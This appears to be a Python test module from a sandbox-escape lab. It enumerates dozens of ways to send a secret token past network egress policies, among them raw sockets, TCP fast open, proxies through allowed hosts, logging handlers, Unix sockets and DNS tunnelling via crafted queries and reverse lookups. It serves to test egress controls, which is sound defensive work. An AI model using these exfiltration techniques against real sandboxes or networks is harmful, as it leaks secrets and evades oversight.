"""Data sent out. The effect: the token arrived at a host that the policies do not allow."""

import asyncio
import os
import socket
import struct

from lab import attack

CATEGORY = 'network'


def there(lab):
    return lab.host, lab.ports.tcp


def word(lab):
    return lab.token.encode()


def query(name):
    """Returns a DNS query for the address of a name."""
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>2H', 1, 1)


def secret_name(lab):
    return f'{lab.token}.{lab.otherName}'


@attack('socket.create_connection')
def _(lab):
    with socket.create_connection(there(lab), 3) as connection:
        connection.sendall(word(lab))


@attack('_socket.socket.connect')
def _(lab):
    import _socket

    connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    connection.connect(there(lab))
    connection.send(word(lab))


@attack('connect_ex without blocking')
def _(lab):
    import select

    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex(there(lab))
    select.select([], [connection], [], 3)
    connection.send(word(lab))


@attack('IPv6')
def _(lab):
    with socket.create_connection((lab.host6, lab.ports.tcp), 3) as connection:
        connection.sendall(word(lab))


@attack('IPv4 written as IPv6')
def _(lab):
    connection = socket.socket(socket.AF_INET6)
    connection.connect((f'::ffff:{lab.host}', lab.ports.tcp))
    connection.send(word(lab))


@attack('a socket made of a descriptor')
def _(lab):
    plain = socket.socket()
    connection = socket.socket(fileno=os.dup(plain.fileno()))
    connection.connect(there(lab))
    os.write(connection.fileno(), word(lab))


@attack('an allowed host at another port')
def _(lab):
    import ssl

    address = socket.getaddrinfo(lab.allowedName, None, socket.AF_INET)[0][4][0]
    with ssl._create_unverified_context().wrap_socket(socket.create_connection((address, lab.ports.tls), 3)) as connection:
        connection.sendall(word(lab))
        connection.recv(1)


@attack('TCP fast open by sendto')
def _(lab):
    connection = socket.socket()
    connection.sendto(word(lab), 0x20000000, there(lab))


@attack('TCP fast open by sendmsg')
def _(lab):
    connection = socket.socket()
    connection.sendmsg([word(lab)], [], 0x20000000, there(lab))


@attack('bound before it connects')
def _(lab):
    connection = socket.socket()
    connection.bind(('0.0.0.0', 0))
    connection.connect(there(lab))
    connection.send(word(lab))


@attack('UDP sendto')
def _(lab):
    socket.socket(type=socket.SOCK_DGRAM).sendto(word(lab), (lab.host, lab.ports.udp))


@attack('UDP connect and send')
def _(lab):
    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    datagrams.connect((lab.host, lab.ports.udp))
    datagrams.send(word(lab))


@attack('UDP sendmsg')
def _(lab):
    socket.socket(type=socket.SOCK_DGRAM).sendmsg([word(lab)], [], 0, (lab.host, lab.ports.udp))


@attack('UDP by IPv6')
def _(lab):
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(word(lab), (lab.host6, lab.ports.udp))


@attack('urllib')
def _(lab):
    import urllib.request

    urllib.request.urlopen(f'http://{lab.host}:{lab.ports.tcp}/{lab.token}', timeout=3).read()


@attack('http.client by name')
def _(lab):
    import http.client

    connection = http.client.HTTPConnection(lab.otherName, lab.ports.tcp, timeout=3)
    connection.request('GET', f'/{lab.token}')
    connection.getresponse()


@attack('an allowed host as proxy of another, by its address')
def _(lab):
    import urllib.request

    opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': f'http://{lab.host}:{lab.ports.tcp}'}))
    opener.open(f'http://{lab.allowedName}/{lab.token}', timeout=3).read()


@attack('ssl')
def _(lab):
    import ssl

    context = ssl._create_unverified_context()
    with context.wrap_socket(socket.create_connection((lab.host, lab.ports.tls), 3)) as connection:
        connection.sendall(word(lab))
        connection.recv(1)


@attack('asyncio.open_connection')
def _(lab):
    async def run():
        _, writer = await asyncio.open_connection(*there(lab))
        writer.write(word(lab))
        await writer.drain()

    asyncio.run(run())


@attack('asyncio datagrams')
def _(lab):
    async def run():
        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(lab.host, lab.ports.udp))
        transport.sendto(word(lab))
        await asyncio.sleep(0.1)

    asyncio.run(run())


@attack('ftplib')
def _(lab):
    import ftplib

    client = ftplib.FTP(timeout=1)
    client.host, client.port = there(lab)
    client.sock = socket.create_connection(there(lab), 3)
    client.putcmd(f'USER {lab.token}')


@attack('xmlrpc')
def _(lab):
    import xmlrpc.client

    try:
        getattr(xmlrpc.client.ServerProxy(f'http://{lab.host}:{lab.ports.tcp}/'), lab.token)()
    except xmlrpc.client.Error:
        pass
    except Exception as error:
        if isinstance(error, OSError):
            raise


@attack('multiprocessing.connection')
def _(lab):
    import multiprocessing.connection

    connection = multiprocessing.connection.SocketClient(there(lab))
    connection.send_bytes(word(lab))


@attack('logging.handlers.SocketHandler')
def _(lab):
    import logging.handlers

    handler = logging.handlers.SocketHandler(*there(lab))
    handler.send(word(lab))


@attack('logging.handlers.SysLogHandler')
def _(lab):
    import logging.handlers

    logging.handlers.SysLogHandler((lab.host, lab.ports.udp)).emit(logging.makeLogRecord({'msg': lab.token}))


@attack('a socket in the file system')
def _(lab):
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(lab.unixSocket)
    connection.send(word(lab))


@attack('an abstract socket')
def _(lab):
    connection = socket.socket(socket.AF_UNIX)
    # Some versions of Node.js pad the name with zeros.
    name = '\0' + lab.abstractSocket
    if connection.connect_ex(name) != 0:
        connection.connect(name.ljust(108, '\0'))
    connection.send(word(lab))


@attack('getaddrinfo of a name that tells')
def _(lab):
    socket.getaddrinfo(secret_name(lab), 80)


@attack('gethostbyname of a name that tells')
def _(lab):
    socket.gethostbyname(secret_name(lab))


@attack('gethostbyname_ex of a name that tells')
def _(lab):
    socket.gethostbyname_ex(secret_name(lab))


@attack('gethostbyaddr of a name that tells')
def _(lab):
    socket.gethostbyaddr(secret_name(lab))


def telling_address(lab):
    """Returns the token as the digits of an IPv6 address: a reverse query sends it."""
    digits = (lab.token + '0' * 32)[:32]
    return ':'.join(digits[at : at + 4] for at in range(0, 32, 4))


@attack('gethostbyaddr of an address that tells')
def _(lab):
    socket.gethostbyaddr(telling_address(lab))


@attack('getnameinfo of an address that tells')
def _(lab):
    socket.getnameinfo((telling_address(lab), 80, 0, 0), 0)


@attack('getfqdn of a name that tells')
def _(lab):
    socket.getfqdn(secret_name(lab))


@attack('asyncio resolves a name that tells')
def _(lab):
    async def run():
        await asyncio.get_running_loop().getaddrinfo(secret_name(lab), 80)

    asyncio.run(run())


@attack('a DNS query to the name server')
def _(lab):
    socket.socket(type=socket.SOCK_DGRAM).sendto(query(secret_name(lab)), (lab.nameserver, 53))


@attack('a DNS query to the name server, connected')
def _(lab):
    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    datagrams.connect((lab.nameserver, 53))
    os.write(datagrams.fileno(), query(secret_name(lab)))


@attack('plain words to the name server')
def _(lab):
    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    datagrams.connect((lab.nameserver, 53))
    datagrams.send(word(lab).ljust(40, b'x'))


@attack('a query for an allowed name with a token behind it')
def _(lab):
    socket.socket(type=socket.SOCK_DGRAM).sendto(query(lab.allowedName) + word(lab), (lab.nameserver, 53))


@attack('a query for an allowed name with a token as its id and flags')
def _(lab):
    datagrams = socket.socket(type=socket.SOCK_DGRAM)
    datagrams.connect((lab.nameserver, 53))
    os.writev(datagrams.fileno(), [word(lab) + b'0' * 8, query(lab.allowedName)])


@attack('DNS by TCP')
def _(lab):
    message = query(secret_name(lab))
    with socket.create_connection((lab.nameserver, 53), 3) as connection:
        connection.sendall(struct.pack('>H', len(message)) + message)


@attack('DNS at a server of our own')
def _(lab):
    socket.socket(type=socket.SOCK_DGRAM).sendto(query(secret_name(lab)), (lab.host, 53))


@attack('os.sendfile to a socket')
def _(lab):
    connection = socket.socket()
    connection.connect(there(lab))
    fd = os.memfd_create('word')
    os.write(fd, word(lab))
    os.sendfile(connection.fileno(), fd, 0, len(lab.token))
